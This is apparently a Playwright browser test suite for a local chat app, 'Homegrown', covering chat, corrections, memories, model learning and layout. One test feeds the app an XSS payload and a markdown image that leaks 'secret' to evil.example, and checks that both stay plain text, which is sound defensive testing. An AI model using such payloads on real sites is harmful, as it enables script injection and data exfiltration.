"""The product in a real browser: sign in, chat, correct, learn, and meet a changed model in the same tab."""

from __future__ import annotations

import re
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.browser.gestures import ask, correct, ready, send

pytestmark = pytest.mark.browser

QUESTIONS = (
    "How do I plan a week of dinners?",
    "What should I pack for a rainy hike?",
    "Which trees lose their leaves first?",
    "Where can a beginner learn to swim?",
    "Why does my bread not rise?",
    "Who invented the bicycle?",
)


def test_only_a_fresh_link_signs_in(launch: Any, look: Any, chromium: Any) -> None:
    app = launch()
    stranger = chromium.new_context().new_page()
    assert stranger.goto(app.base).status == 401
    assert "Run “make run” once more" in stranger.locator("main").inner_text()
    page = ready(look(app.url))
    assert "token" not in page.url
    assert stranger.goto(app.url).status == 401
    stranger.context.close()


def test_a_reply_streams_and_can_be_stopped_and_asked_for_again(launch: Any, look: Any) -> None:
    page = ready(look(launch(delay=0.15).url))
    send(page, "How do I bake bread?")
    page.locator("#live .model", has_text=re.compile(r"\w+ \w+ \w+")).wait_for()
    send(page, "And a second message?")
    page.locator("#notice", has_text="A reply is still being written").wait_for()
    expect(page.get_by_label("Message")).to_have_value("And a second message?")
    page.get_by_role("button", name="Stop").click()
    turn = page.locator("#history .turn")
    turn.locator(".note", has_text="You stopped this reply.").wait_for()
    expect(turn).to_have_count(1)
    turn.get_by_role("button", name="Regenerate").click()
    page.locator("#live .model").wait_for()
    page.get_by_role("button", name="Stop").click()
    turn.locator(".note").wait_for()


def test_an_older_reply_is_written_again_and_the_arrows_lead_back(launch: Any, look: Any) -> None:
    page = ready(look(launch().url))
    ask(page, "How do I plan a week of dinners?")
    ask(page, "And what about breakfast?")
    page.locator("#history .turn").first.get_by_role("button", name="Regenerate").click()
    page.locator(".leaf", has_text="2 of 2").wait_for()
    expect(page.locator("#history .turn")).to_have_count(1)
    page.get_by_role("button", name="Previous reply").click()
    page.locator(".leaf", has_text="1 of 2").wait_for()
    assert "breakfast" in page.locator("#history .turn").nth(1).inner_text()


def test_an_empty_and_an_overlong_message_are_told_in_a_sentence(launch: Any, look: Any) -> None:
    page = ready(look(launch().url))
    send(page, "   ")
    page.locator("#notice", has_text="There is nothing to send yet").wait_for()
    page.get_by_label("Message").fill("x" * 100_000)
    page.get_by_role("button", name="Send").click()
    page.locator("#notice", has_text="keep it below").wait_for()
    assert len(page.get_by_label("Message").input_value()) == 100_000


def test_a_reload_goes_on_with_the_reply_and_stop_still_works(launch: Any, look: Any) -> None:
    page = ready(look(launch(delay=0.15).url))
    send(page, "How do I bake bread?")
    page.locator("#live .model", has_text=re.compile(r"\w+ \w+ \w+")).wait_for()
    page.reload()
    live = page.locator("#live .model", has_text=re.compile(r"\w+ \w+ \w+"))
    live.wait_for()
    shown = len(live.inner_text())
    page.wait_for_timeout(1500)
    assert len(live.inner_text()) > shown
    page.get_by_role("button", name="Stop").click()
    page.locator("#history .turn .note", has_text="You stopped this reply.").wait_for()


def test_a_restart_shows_everything_as_it_was(launch: Any, look: Any) -> None:
    app = launch()
    page = ready(look(app.url))
    turn = ask(page, "How do I bake bread?")
    correct(page, turn, "Mix, wait, bake.")
    reply = turn.locator(".model").inner_text()
    app.stop()
    page.locator(".away", has_text="Homegrown is not running").wait_for()
    page.close()
    again = ready(look(app.start()))
    expect(again.locator("#history .turn .model")).to_have_text(reply)
    assert "Mix, wait, bake." in again.locator("#history .yours").inner_text()
    assert "(1 so far)" in again.locator(".verdict").inner_text()
    assert "How do I bake" in again.locator(".talks li.on").inner_text()


def test_a_rating_can_be_given_explained_and_taken_back(launch: Any, look: Any) -> None:
    page = ready(look(launch().url))
    turn = ask(page, "How do I bake bread?")
    turn.get_by_role("button", name="Bad reply").click()
    turn.locator(".verdict", has_text="Noted. Write it better").wait_for()
    turn.get_by_role("button", name="Too long").click()
    turn.locator(".chips .on", has_text="Too long").wait_for()
    turn.get_by_role("button", name="Add a comment").click()
    page.get_by_label("What was wrong with it?").fill("Rambling <b>on</b>.")
    page.get_by_role("button", name="Save", exact=True).last.click()
    turn.locator(".comment", has_text="Rambling <b>on</b>.").wait_for()
    correct(page, turn, "Mix, wait, bake.")
    turn.locator(".verdict", has_text="Will be learnt at night once 5 replies are rewritten (1 so far).").wait_for()
    page.reload()
    turn.locator(".chips .on", has_text="Too long").wait_for()
    turn.get_by_role("button", name="Undo").click()
    turn.locator(".verdict").wait_for(state="detached")
    turn.get_by_role("button", name="Good reply").click()
    turn.locator(".verdict", has_text="Will be learnt at night once 5 replies").wait_for()


def test_a_correction_that_is_refused_or_meets_a_closed_app_keeps_its_words(launch: Any, look: Any) -> None:
    app = launch()
    page = ready(look(app.url))
    turn = ask(page, "How do I bake bread?")
    turn.get_by_role("button", name="Write it better").click()
    box = page.get_by_label("What should it have said?")
    reply = box.input_value()
    page.get_by_role("button", name="Save", exact=True).last.click()
    page.locator("#notice", has_text="That is the reply as it was").wait_for()
    expect(box).to_have_value(reply)
    box.fill("Mix, wait, bake.")
    page.get_by_role("button", name="Save", exact=True).last.click()
    turn.locator(".yours", has_text="Mix, wait, bake.").wait_for()
    box.wait_for(state="detached")
    app.stop()
    turn.get_by_role("button", name="Write it better").click()
    expect(box).to_have_value("Mix, wait, bake.")
    box.fill("Knead it first.")
    page.get_by_role("button", name="Save", exact=True).last.click()
    page.locator(".away", has_text="Homegrown is not running").wait_for()
    expect(box).to_have_value("Knead it first.")


def test_conversations_are_listed_opened_and_deleted(launch: Any, look: Any) -> None:
    page = ready(look(launch().url))
    ask(page, QUESTIONS[0])
    page.get_by_role("button", name="New conversation").click()
    page.locator(".welcome").wait_for()
    ask(page, QUESTIONS[1])
    page.locator(".talks li").nth(1).locator(".do-open").click()
    page.locator("#history .you", has_text="dinners").wait_for()
    page.reload()
    page.locator("#history .you", has_text="dinners").wait_for()
    page.locator(".talks li").nth(1).hover()
    page.locator(".talks li").nth(1).locator(".do-delete").click()
    page.locator(".welcome").wait_for()
    expect(page.locator(".talks li")).to_have_count(1)


def test_a_reply_that_is_still_written_does_not_call_back_who_has_left(launch: Any, look: Any) -> None:
    page = ready(look(launch(delay=0.15).url))
    send(page, QUESTIONS[0])
    page.locator("#live .writing .model").wait_for()
    stop, again = page.get_by_role("button", name="Stop"), page.get_by_role("button", name="Send")
    expect(stop).to_be_visible()
    expect(again).to_be_hidden()
    page.get_by_role("button", name="New conversation").click()
    page.locator(".welcome").wait_for()
    expect(again).to_be_visible()  # the reply is whole
    expect(stop).to_be_hidden()
    page.wait_for_timeout(1_000)  # what would call the page back comes with its last words
    assert page.locator(".welcome").is_visible()
    assert page.locator("#live .writing").count() == 0
    page.locator(".talks .do-open").click()
    page.locator("#history .model", has_text="dinners").wait_for()


def test_the_persona_is_kept(launch: Any, look: Any) -> None:
    page = ready(look(launch().url))
    page.get_by_role("button", name="How should your model speak to you?").click()
    page.get_by_label("How should your model speak to you?").fill("Call me Sam.")
    page.locator("#persona").get_by_role("button", name="Save").click()
    page.locator("#persona-said", has_text="Saved.").wait_for()
    page.reload()
    ready(page)
    page.get_by_role("button", name="How should your model speak to you?").click()
    expect(page.get_by_label("How should your model speak to you?")).to_have_value("Call me Sam.")


def test_memories_are_added_edited_switched_off_and_deleted(launch: Any, look: Any) -> None:
    app = launch()
    page = ready(look(app.url))
    page.goto(app.base + "/memory")
    page.get_by_label("A fact about you").fill("I am vegetarian.")
    page.get_by_role("button", name="Add").click()
    entry = page.locator(".entry", has_text="I am vegetarian.")
    entry.get_by_role("button", name="Edit").click()
    page.get_by_label("The fact").fill("I am vegan.")
    page.keyboard.press("Enter")
    entry = page.locator(".entry", has_text="I am vegan.")
    entry.get_by_role("button", name="Switch off").click()
    page.locator(".entry.off").wait_for()
    page.reload()
    page.locator(".entry.off").get_by_role("button", name="Switch on").click()
    entry.get_by_role("button", name="Switch off").wait_for()
    entry.get_by_role("button", name="Delete").click()
    page.get_by_text("Nothing yet.").wait_for()
    page.get_by_role("button", name="Add").click()
    page.locator("#notice", has_text="The memory is empty").wait_for()


def test_learn_now_changes_the_reply_in_the_same_tab(launch: Any, look: Any) -> None:
    app = launch(delay=0.002)
    page = ready(look(app.url))
    for question in QUESTIONS:
        page.get_by_role("button", name="New conversation").click()
        page.locator(".welcome").wait_for()
        turn = ask(page, question)
        correct(page, turn, "Captain, " + turn.locator(".model p").inner_text())
    page.locator(".verdict", has_text="6 waiting").wait_for()
    learning = look(app.base + "/learning")
    learning.locator("#waiting .entry").nth(5).wait_for()
    learning.get_by_role("button", name="Learn now").click()
    learning.locator("#progress .bar").wait_for()
    learning.reload()
    learning.locator("#report .badge", has_text="Learnt").wait_for(timeout=120_000)
    learning.locator("#versions .badge", has_text="serving").wait_for()
    page.bring_to_front()
    page.locator(".news", has_text="Your model learnt something at").wait_for()
    turn = ask(page, "How do I fix a squeaky door?")
    assert "Captain," in turn.locator(".model").inner_text()
    learning.bring_to_front()
    learning.locator("#versions").get_by_role("button", name="Go back to this").last.click()
    learning.locator("#v-base .badge").wait_for()
    page.bring_to_front()
    page.locator(".news", has_text="Next replies use the model as it came").wait_for()
    turn = ask(page, "How do I fix a rusty gate?")
    assert "Captain," not in turn.locator(".model").inner_text()


def test_learn_now_with_nothing_to_learn_is_told_in_a_sentence(launch: Any, look: Any) -> None:
    app = launch()
    ready(look(app.url))
    page = look(app.base + "/learning")
    page.locator("#plan p").wait_for()  # the page has loaded what it shows
    page.get_by_role("button", name="Learn now").click()
    page.locator("#notice", has_text="correct or rate a few more replies first").wait_for()


def test_the_machine_page_shows_what_runs(launch: Any, look: Any) -> None:
    app = launch()
    page = ready(look(app.url))
    ask(page, "How do I bake bread?")
    page.goto(app.base + "/machine")
    page.locator(".cards", has_text="tokens/s").wait_for()
    assert "scripted" in page.locator(".cards").inner_text()
    expect(page.locator(".cards").get_by_role("img")).to_have_count(2)
    page.get_by_role("button", name="Restart the engine").click()
    page.locator("#notice", has_text="The engine is being restarted.").wait_for()
    page.locator(".cards", has_text="ready").wait_for()
    page.goto(app.base + "/help")
    page.get_by_text("Where it all lies").wait_for()


def test_a_message_is_sent_and_rated_with_the_keyboard_alone(launch: Any, look: Any) -> None:
    page = ready(look(launch().url))
    page.get_by_label("Message").focus()
    page.keyboard.type("How do I bake bread?")
    page.keyboard.press("Enter")
    page.locator("#history .turn .acts").wait_for()
    page.locator("#announce", has_text="The reply is complete.").wait_for(state="attached")
    for _ in range(30):
        page.keyboard.press("Shift+Tab")
        if page.locator("#history .do-up:focus").count():
            break
    page.keyboard.press("Enter")
    page.locator(".verdict", has_text="Will be learnt at night once 5 replies").wait_for()


def test_a_phone_shows_all_pages_without_sideways_scrolling(launch: Any, look: Any) -> None:
    app = launch()
    page = ready(look(app.url, size=(390, 844)))
    ask(page, "How do I bake bread?").get_by_role("button", name="Bad reply").click()
    page.locator(".chips").wait_for()
    page.get_by_role("button", name="Conversations").click()
    page.get_by_role("button", name="New conversation").wait_for()
    page.keyboard.press("Escape")
    for name in ("", "memory", "learning", "machine", "help"):
        page.goto(f"{app.base}/{name}")
        page.locator(".thread, .page-column h1").first.wait_for()
        assert page.evaluate("document.documentElement.scrollWidth") <= 390


def test_what_is_typed_as_markup_stays_text(launch: Any, look: Any) -> None:
    app = launch()
    page = ready(look(app.url))
    attack = "<img src=x onerror=\"document.title='taken'\"><script>document.title='taken'</script>"
    turn = ask(page, attack)
    correct(page, turn, attack + " ![x](http://evil.example/?q=secret)")
    page.goto(app.base + "/memory")
    page.get_by_label("A fact about you").fill(attack)
    page.get_by_role("button", name="Add").click()
    page.locator(".entry .text").wait_for()
    page.goto(app.base + "/learning")
    page.locator("#waiting .entry").wait_for()
    assert page.title() == "Learning · Homegrown"
    assert page.locator("#waiting img, #waiting script").count() == 0


def test_a_tab_catches_up_also_when_a_refresh_was_lost(launch: Any, look: Any) -> None:
    app = launch()
    page = ready(look(app.url))
    ask(page, "How do I fix a squeaky door?")
    page.reload()
    page.locator("#history .turn .acts").wait_for()
    # The page's own script clicks this hidden button; the first click will come to nothing.
    lose_one = "{const lose = event => event.stopImmediatePropagation(), once = {capture: true, once: true};"
    page.locator("#refresh").evaluate("button => " + lose_one + "button.addEventListener('click', lose, once)}")
    other = look(app.base)
    other.locator("#history .turn").get_by_role("button", name="Good reply").click()
    other.locator(".verdict").wait_for()
    page.bring_to_front()
    page.locator(".verdict").wait_for()


def test_ten_tabs_can_be_open_at_once(launch: Any, look: Any) -> None:
    """Browsers open six connections to one address: none may be held by a tab that only stands there."""
    app = launch()
    first = ready(look(app.url))
    for path in ("/learning", "/memory", "/machine", "/models") * 2:
        look(app.base + path).locator("#stamp").wait_for(state="attached")
    last = ready(look(app.base + "/"))
    ask(last, "How do I store apples?")
    first.bring_to_front()
    first.locator(".talks li", has_text="store apples").wait_for()
